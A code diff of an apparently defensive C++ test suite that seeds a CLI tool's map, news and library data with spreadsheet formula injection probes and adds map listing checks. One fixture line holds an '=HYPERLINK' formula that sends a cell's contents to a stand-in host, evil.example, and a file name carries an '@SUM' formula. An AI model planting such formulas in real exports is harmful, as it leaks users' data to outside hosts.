@@ -93,6 +93,13 @@ void seed(const Network& n) {
                   "{\"id\": \"e1\", \"time\": \"2024-03-01T10:00:00Z\", \"member\": "
                   "\"amina@example.org\", \"kind\": \"news\", \"space\": \"sahel\", \"content\": "
                   "\"=HYPERLINK(\\\"https://evil.example/?\\\"&A2,\\\"Click\\\")\"}\n")});
+    n.ok({"map", "create", "probe", "--country", "TN", "--title-fr", hyperlink, "--title-en", sum, "--attribution",
+          plus, "--boundaries",
+          n.write("tn.geojson", "{\"type\": \"FeatureCollection\", \"features\": [{\"type\": \"Feature\", "
+                                "\"properties\": {\"shapeISO\": \"TN-11\", \"shapeName\": \"" + minus + "\"}, "
+                                "\"geometry\": {\"type\": \"Polygon\", \"coordinates\": [[[10.1, 36.7], "
+                                "[10.3, 36.7], [10.3, 36.9], [10.1, 36.9], [10.1, 36.7]]]}}]}"),
+          "--categories", n.write("categories.yaml", "- code: probe\n  fr: |-\n    " + hyperlink + "\n  en: |-\n    " + sum + "\n")});
     n.ok({"backup", "create", n.path("backup.tar.gz").string()});
 }
 
@@ -121,6 +128,8 @@ std::map<std::string, Probe> probes(const Network& n) {
         {"letter status", {{"letter", "status", "2024-09"}, false}},
         {"library history", {{"library", "history", "sahel", "@SUM(1+1).txt"}, false}},
         {"library list", {{"library", "list", "sahel"}}},
+        {"map list", {{"map", "list"}}},
+        {"map show", {{"map", "show", "probe"}}},
         {"members export", {{"members", "export", exported}, true, exported}},
         {"members import",
          {{"members", "import", form, "--skip-invalid", "--rejects", rejects}, true, rejects}},
